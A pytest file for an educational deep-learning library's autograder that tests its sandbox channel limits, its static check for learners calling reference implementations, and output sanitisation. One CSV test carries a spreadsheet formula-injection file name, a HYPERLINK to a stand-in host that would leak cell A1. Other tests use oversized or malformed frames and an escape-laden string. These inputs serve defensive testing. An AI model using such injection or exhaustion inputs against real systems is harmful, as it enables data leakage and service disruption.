"""The grader's parts on their own: the channel's hard limits, the static check for dlcore's
own implementation of a graded op, the cleaning of text for the table, and the learner view
of dlcore that sandboxes see."""
import math
import os
import time
import zipfile
from io import BytesIO

import numpy as np
import pytest

import dlcore.functional as F
from dlcore.grading import Exercise, get_exercise
from dlcore.grading.instructor import channel
from dlcore.grading.instructor.report import clean, write_csv
from dlcore.grading.instructor.sandbox import build_view
from dlcore.grading.instructor.static import find_reference_uses

LIMITS = channel.Limits()


def _nested(depth):
    value = 1
    for _ in range(depth):
        value = [value]
    return value


def _roundtrip(value, limits=LIMITS):
    blob = bytearray()
    tree = channel.encode(value, blob)
    message, data = channel.parse_frame(channel.pack({"v": tree}, blob)[channel.HEADER.size:],
                                        limits)
    return channel.decode(message["v"], data, limits)


def _frame_through_pipe(data, limits=LIMITS):
    r, w = os.pipe()
    try:
        os.write(w, data)
        os.close(w)
        return channel.read_frame(r, time.monotonic() + 5, limits)
    finally:
        os.close(r)


# ---------------------------------------------------------------- channel

def test_plain_values_travel_exactly():
    x = np.arange(12, dtype=np.float32).reshape(3, 4) / 7
    value = (x, {"m": np.float64(0.5), "t": 3, 7: [True, None, "s"]}, -2**70, float("nan"))
    got = _roundtrip(value)
    assert got[0].dtype == np.float32 and np.array_equal(got[0], x) and got[0].flags.writeable
    assert got[1]["m"] == 0.5 and isinstance(got[1]["m"], np.float64)
    assert got[1]["t"] == 3 and got[1][7] == [True, None, "s"]
    assert got[2] == -2**70 and np.isnan(got[3])


def test_objects_come_back_as_opaque_placeholders_naming_their_type():
    class Model:
        pass

    got = _roundtrip([Model(), np.array([object()], dtype=object)])
    assert type(got[0]).__name__ == "Model" and isinstance(got[0], channel.Opaque)
    assert "Python objects" in got[1].why


@pytest.mark.parametrize("value, words", [
    (10**60, "an integer of 61 digits"),
    (_nested(30), "nested deeper"),
])
def test_values_over_the_limits_are_refused(value, words):
    with pytest.raises(channel.ChannelError, match=words):
        _roundtrip(value)


def test_json_too_deep_for_the_parser_is_a_channel_error_not_a_crash():
    text = b"[" * 100_000 + b"]" * 100_000
    body = channel.JSON_LENGTH.pack(len(text)) + text
    with pytest.raises(channel.ChannelError, match="cannot be read"):
        channel.parse_frame(body, channel.Limits(json_bytes=10**6))


def test_a_huge_announced_frame_is_refused_before_reading_it():
    header = channel.HEADER.pack(channel.MAGIC, 2**40)
    with pytest.raises(channel.ChannelError, match="over the"):
        _frame_through_pipe(header)


def test_a_zip_where_a_frame_should_be_is_refused():
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a0.npy", b"\0" * 10**6)
    with pytest.raises(channel.ChannelError, match="not a grader frame"):
        _frame_through_pipe(buf.getvalue())


def test_an_array_claiming_more_bytes_than_it_has_is_refused():
    blob = bytearray(np.zeros(4).tobytes())
    tree = {"array": ["<f8", [10**6, 10**6], 0, 8 * 10**12]}
    with pytest.raises(channel.ChannelError, match="shape does not match"):
        channel.decode(tree, blob)
    with pytest.raises(channel.ChannelError, match="dtype"):
        channel.decode({"array": ["|O", [4], 0, 32]}, blob)


@pytest.mark.parametrize("tree, words", [
    ({"int": "\u00b2"}, "malformed integer"),     # str.isdigit() says yes, int() says no
    ({"int": "--5"}, "malformed integer"),
    ({"int": "\u0663"}, "malformed integer"),     # an Arabic-Indic digit
    ({"array": ["(2,", [1], 0, 8]}, "dtype"),     # numpy raises SyntaxError for this one
    ({"array": ["f8,f8", [1], 0, 16]}, "dtype"),
    ({"float": "1" * 50}, "a value the protocol does not write"),
])
def test_malformed_values_are_channel_errors_and_nothing_else(tree, words):
    with pytest.raises(channel.ChannelError, match=words):
        channel.decode(tree, bytearray(16))


def test_results_made_of_many_small_json_values_are_charged_to_the_budget():
    from dlcore.grading.instructor.grader import MAX_RESULT_BYTES, ExerciseRun, _read_results

    # 100,000 integers: 1.2 MB of JSON and no array bytes, but about 20 MB once parsed
    tree = channel.encode({"value": [0] * 100_000, "args": [], "kwargs": {}}, bytearray())

    class Box:  # a sandbox that answers every case with that
        def __init__(self, n):
            self.frames = [{"type": "function", "defined": True, "type_name": "function"}]
            for i in range(n):
                self.frames += [{"type": "started", "index": i},
                                {"type": "case", "index": i, "data": tree,
                                 "record": {"kind": "ok", "seconds": 0.0}}]
            self.frames.append({"type": "done"})

        def receive(self, deadline):
            return self.frames.pop(0), b""

    run, budget = ExerciseRun(), [MAX_RESULT_BYTES]
    _, problem, why = _read_results(Box(40), run, 40, time.monotonic() + 5, budget)
    assert problem == "broken" and "over the" in why, (problem, why)
    assert len(run.calls) * 16 * 1.2e6 < MAX_RESULT_BYTES  # it stopped before 96 MiB of trees


def test_a_frame_cut_short_is_end_of_file():
    data = channel.pack({"type": "done"})
    with pytest.raises(EOFError):
        _frame_through_pipe(data[:-3])


def test_case_functions_travel_as_source_and_are_rebuilt_only_on_request():
    from dlcore.grading.exercises.backprop import smooth_cubic

    blob = bytearray()
    tree = channel.encode([smooth_cubic], blob, allow_functions=True)
    rebuilt = channel.decode(tree, blob, allow_functions=True)[0]
    x = np.linspace(-1, 1, 5)
    assert rebuilt(x) == smooth_cubic(x)
    assert isinstance(channel.decode(tree, blob)[0], channel.Opaque)  # the grader's side


# ---------------------------------------------------------------- static check

def _flags(code, exercise_id="backprop.linear_forward"):
    return find_reference_uses([code], [get_exercise(exercise_id)]).get(exercise_id, [])


@pytest.mark.parametrize("code", [
    "import dlcore.functional as F\ndef linear_forward(x, W, b):\n    return F.linear_forward(x, W, b)[0]",
    "from dlcore.functional import linear_forward as lf\ndef linear_forward(x, W, b):\n    return lf(x, W, b)[0]",
    "from dlcore import functional\ndef linear_forward(x, W, b):\n    return functional.linear_forward(x, W, b)[0]",
    "import dlcore\nlinear_forward = dlcore.functional.linear_forward",
    "from dlcore.functional import linear_forward",
    ("from dlcore.functional import *\ndef helper(x, W, b):\n    return linear_forward(x, W, b)[0]\n"
    "def linear_forward(x, W, b):\n    return helper(x, W, b)\n"
    "from dlcore.functional import linear_forward"),
    ("import dlcore.functional as F\nref = F.linear_forward\ndef helper(x, W, b):\n    return ref(x, W, b)[0]\n"
    "def linear_forward(x, W, b):\n    return helper(x, W, b)"),
])
def test_dlcores_own_implementation_is_flagged(code):
    assert any("linear_forward" in s for s in _flags(code)), code


def test_the_registry_and_the_references_are_flagged():
    code = ("from dlcore.grading import get_exercise\n"
            "def linear_forward(x, W, b):\n"
            "    return get_exercise('backprop.linear_forward').reference(x, W, b)")
    assert _flags(code) == ["reaches the exercise registry (dlcore.grading.get_exercise)"]
    code = ("import dlcore.grading.exercises.backprop as R\n"
            "def linear_forward(x, W, b):\n    return R.linear_forward(x, W, b)")
    assert "reaches the grader's own code (dlcore.grading.exercises.backprop" in _flags(code)[0]


def _cross_entropy_reference(logits, y):
    lp = F.log_softmax(logits)
    return -lp[np.arange(len(y)), y].mean()


def test_a_call_the_reference_makes_is_flagged_under_another_name():
    exercise = Exercise("t.cross_entropy", "cross_entropy", lambda rng: [],
                        _cross_entropy_reference, ("loss",))
    code = ("from dlcore.functional import *\nimport numpy as np\n"
            "def cross_entropy(logits, y):\n"
            "    lp = log_softmax(logits)\n    return -lp[np.arange(len(y)), y].mean()")
    flags = find_reference_uses([code], [exercise])
    assert flags == {"t.cross_entropy": [
        "uses dlcore's own log_softmax (dlcore.functional.log_softmax)"]}, flags


@pytest.mark.parametrize("code", [
    # honest: numpy only; dlcore used outside the graded function; the learner's own helper
    "import numpy as np\ndef linear_forward(x, W, b):\n    return x @ W + b",
    ("import dlcore.functional as F\nprint(F.linear_forward)\n"
    "def linear_forward(x, W, b):\n    return x @ W + b"),
    "from dlcore.functional import linear_forward\ndef linear_forward(x, W, b):\n    return x @ W + b",
    # documented limits: dynamic access and other objects doing the same math are not seen
    ("import dlcore.functional as F\ndef linear_forward(x, W, b):\n"
    "    return getattr(F, 'linear_' + 'forward')(x, W, b)[0]"),
    ("from dlcore import nn\ndef linear_forward(x, W, b):\n    layer = nn.Linear(2, 2)\n"
    "    layer.W.data, layer.b.data = W, b\n    return layer.forward(x)"),
])
def test_what_is_not_flagged(code):
    assert _flags(code) == []


def test_unparsable_cells_and_magics_do_not_stop_the_check():
    code = "%matplotlib inline\nimport dlcore.functional as F\nlinear_forward = F.linear_forward"
    assert _flags(code) and find_reference_uses(["def (", "x = ((((" * 300],
                                                 [get_exercise("backprop.linear_forward")]) == {}


# ---------------------------------------------------------------- text and the learner view

def test_clean_removes_escape_sequences_and_control_characters():
    assert clean("\x1b[31mred\x1b[0m \x1b]0;title\x07ok\u202e!\x00\nnext") == "red ok?!? next"
    assert len(clean("x" * 1000)) == 300


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
    from dlcore.grading.instructor.grader import Row

    name = '=HYPERLINK("http://example.invalid/"&A1,"open").ipynb'
    write_csv([Row(name, "backprop.linear_forward", 0, 2, "error", 0.0, "@SUM(1)"),
               Row("a.ipynb", "backprop.linear_forward", 2, 2, "ok", 0.0, "")],
              tmp_path / "s.csv")
    lines = (tmp_path / "s.csv").read_text(encoding="utf-8").splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and lines[1].endswith(",'@SUM(1)"), lines[1]
    assert lines[2].startswith("a.ipynb,"), lines[2]


def test_a_name_the_terminal_cannot_encode_does_not_stop_the_summary(tmp_path, monkeypatch):
    import io
    import sys

    from dlcore.grading.instructor.cli import main

    (tmp_path / "01_backprop_café.ipynb").write_text("not a notebook")
    out = io.TextIOWrapper(io.BytesIO(), encoding="ascii")  # a terminal that takes ASCII only
    monkeypatch.setattr(sys, "stdout", out)
    code = main([str(tmp_path / "01_backprop_café.ipynb"), "--out", str(tmp_path / "s.csv")])
    out.flush()
    assert code == 0
    assert "01_backprop_caf\\xe9.ipynb: 0%" in out.buffer.getvalue().decode("ascii")


def test_the_learner_view_has_the_library_but_no_references_or_engine(tmp_path):
    learner, grader = build_view(tmp_path)
    files = {p.relative_to(learner).as_posix() for p in learner.rglob("*.py")}
    assert "dlcore/functional/__init__.py" in files and "dlcore/nn/__init__.py" in files
    grading = sorted(f for f in files if f.startswith("dlcore/grading/"))
    assert grading == ["dlcore/grading/__init__.py", "dlcore/grading/registry.py"]
    assert sorted(p.name for p in grader.iterdir()) == ["channel.py", "inside.py"]


def test_the_learner_package_does_not_import_the_instructor_or_build_code():
    import subprocess
    import sys

    code = ("import sys, dlcore.grading\n"
            "from dlcore.grading import check, get_exercise\n"
            "bad = sorted(m for m in sys.modules if m.startswith(('dlcore.grading.instructor', "
            "'dlcore.grading.build')))\n"
            "print(bad)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True)
    assert out.stdout.strip() == "[]", out


@pytest.mark.parametrize("exercise_id", sorted(__import__("dlcore.grading").grading.EXERCISES))
def test_every_exercises_cases_travel_into_the_sandbox_unchanged(exercise_id):
    """What the grader sends is what the sandbox rebuilds: arrays bit for bit, generators
    in the same state, case functions (sent as source) giving the same values."""
    cases = [(tuple(c.args), dict(c.kwargs)) for c in get_exercise(exercise_id).cases(1234)]
    blob = bytearray()
    tree = channel.encode(cases, blob, allow_functions=True)
    message, data = channel.parse_frame(channel.pack({"cases": tree}, blob)[channel.HEADER.size:],
                                        channel.Limits(depth=64))
    rebuilt = channel.decode(message["cases"], data, channel.Limits(depth=64),
                             allow_functions=True)

    def call(f, probe):
        for x in (probe, 0.3, np.linspace(0.1, 0.9, 5)):  # what the function takes
            try:
                return f(x.copy() if isinstance(x, np.ndarray) else x)
            except TypeError:
                continue
        raise AssertionError(f"cannot call {f.__name__} in this test")

    def same(a, b, probe):
        if callable(a) and not isinstance(a, np.random.Generator):
            return np.array_equal(call(a, probe), call(b, probe))
        if isinstance(a, np.random.Generator):
            return a.bit_generator.state == b.bit_generator.state
        if isinstance(a, (tuple, list)):
            return len(a) == len(b) and all(same(u, v, probe) for u, v in zip(a, b))
        if isinstance(a, dict):
            return a.keys() == b.keys() and all(same(a[k], b[k], probe) for k in a)
        if isinstance(a, (np.ndarray, np.generic)):
            return a.dtype == b.dtype and np.array_equal(a, b, equal_nan=a.dtype.kind == "f")
        both_nan = isinstance(a, float) and math.isnan(a) and math.isnan(b)
        return type(a) is type(b) and (a == b or both_nan)

    for (args, kwargs), (args2, kwargs2) in zip(cases, rebuilt, strict=True):
        probe = next((a for a in args if isinstance(a, np.ndarray) and a.dtype.kind == "f"),
                     np.linspace(0.1, 0.9, 5))
        assert same(args, args2, probe) and same(kwargs, kwargs2, probe), exercise_id
